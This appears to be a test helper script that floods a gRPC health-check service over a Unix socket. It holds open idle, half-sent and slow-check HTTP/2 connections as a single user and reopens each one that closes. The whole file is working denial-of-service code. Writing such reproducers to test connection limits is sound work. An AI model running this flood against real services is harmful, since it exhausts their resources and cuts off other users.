"""Fills a health service with connections of one user: SOCKET UID COUNT [KINDS]. Opens again what is closed.

A third of them send nothing, a third half a request, a third ask for checks that take a minute, each another one.
"""

from __future__ import annotations

import os
import resource
import select
import socket
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def text(value: bytes) -> bytes:
    return bytes([len(value)]) + value


HEADERS = frame(
    1, 4, 1,
    b"\x83\x86\x04" + text(b"/nvhcd.HealthCheckService/RunHealthCheck") + b"\x01" + text(b"localhost")
    + b"\x0f\x10" + text(b"application/grpc") + b"\x00" + text(b"te") + text(b"trailers"),
)  # fmt: skip
HALF = PREFACE + frame(4, 0, 0, b"") + HEADERS


def request(argument: str) -> bytes:
    message = b"\x0a" + text(argument.encode())
    return HALF + frame(0, 1, 1, b"\0" + len(message).to_bytes(4, "big") + message)


def main() -> None:
    path, uid, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 100, count + 100))
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
    poll = select.epoll()
    opened: dict[int, tuple[int, socket.socket]] = {}
    missing = list(range(count))
    asked = 0
    told = False
    while True:
        for _ in range(min(len(missing), 500)):
            slot = missing.pop()
            client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            client.setblocking(False)
            try:
                client.connect(path)
                asked += 1
                client.send((b"", HALF, request(f"slow-{asked}"))[slot % 3])
            except OSError:
                missing.insert(0, slot)
                client.close()
                break
            opened[client.fileno()] = slot, client
            poll.register(client, select.EPOLLIN)
        if asked >= count and not told:
            told = True
            print("flooding", flush=True)
        for descriptor, _ in poll.poll(0.001 if missing else 1.0):
            slot, client = opened[descriptor]
            try:
                if client.recv(65536):
                    continue
            except OSError:
                pass
            del opened[descriptor]
            poll.unregister(client)
            client.close()
            missing.insert(0, slot)


if __name__ == "__main__":
    main()
